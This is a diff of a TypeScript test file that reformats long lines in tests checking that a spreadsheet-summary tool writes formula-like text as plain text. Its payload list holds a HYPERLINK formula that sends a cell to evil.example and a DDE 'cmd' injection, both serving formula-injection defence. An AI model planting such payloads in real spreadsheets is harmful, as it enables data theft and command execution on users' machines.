@@ -10,7 +10,14 @@ import { unzip } from "../../scripts/fuzz/zip";
  * docs/rules.md: text from the source that begins with =, +, -, @ (or a tab or CR before them) is written to the
  * summary as text, never as a formula. Checked end to end: `coma summary` on a source, output loaded with exceljs.
  */
-const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=cmd|' /C calc'!A0"];
+const PAYLOADS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
+  "+84 912 345 678",
+  "-2+3",
+  "@SUM(A1:A9)",
+  "\t=1+1",
+  "\r=cmd|' /C calc'!A0",
+];
 const SHEET = `=Chỉ "tiêu" của 'xã' 2027`;
 
 let dir: string;
@@ -44,7 +51,10 @@ afterAll(() => dir && fs.rmSync(dir, { recursive: true, force: true }));
 
 async function silently(run: () => Promise<number>): Promise<number> {
   const mute = () => vi.fn(() => true) as unknown as typeof process.stdout.write;
-  const spies = [vi.spyOn(process.stdout, "write").mockImplementation(mute()), vi.spyOn(process.stderr, "write").mockImplementation(mute())];
+  const spies = [
+    vi.spyOn(process.stdout, "write").mockImplementation(mute()),
+    vi.spyOn(process.stderr, "write").mockImplementation(mute()),
+  ];
   const today = process.env.COMA_TODAY;
   process.env.COMA_TODAY = "2027-12-15";
   try {
@@ -87,7 +97,8 @@ describe("text that looks like a formula, in the summary", () => {
   it("should put no payload inside a formula of the sheet's XML", () => {
     const formulas = [...summaryXml.matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]);
     for (const f of formulas) expect(f).toMatch(/^HYPERLINK\(/);
-    for (const payload of ["evil.example", "SUM(A1:A9)", "cmd|", "1+1", "84 912"]) for (const f of formulas) expect(f).not.toContain(payload);
+    for (const payload of ["evil.example", "SUM(A1:A9)", "cmd|", "1+1", "84 912"])
+      for (const f of formulas) expect(f).not.toContain(payload);
   });
 
   it("should keep the payloads of the source sheet as text too", () => {
